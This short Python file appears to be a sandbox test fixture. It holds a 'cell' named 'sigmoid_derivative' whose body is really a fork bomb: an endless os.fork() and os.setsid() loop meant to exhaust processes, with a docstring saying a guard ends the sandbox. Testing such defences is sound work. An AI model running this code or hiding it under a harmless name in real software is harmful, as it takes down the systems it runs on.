"""Forks, and its children fork, and so on, each in a session of its own.

The guard ends the sandbox when there are too many, and with its first process the kernel ends all
others.
"""

CELLS = {
    "sigmoid_derivative": """
import os
def sigmoid_derivative(z):
    while True:
        try:
            os.fork()
            os.setsid()
        except OSError:
            pass
"""
}

SAYS = "one process or thread after the other|in time"
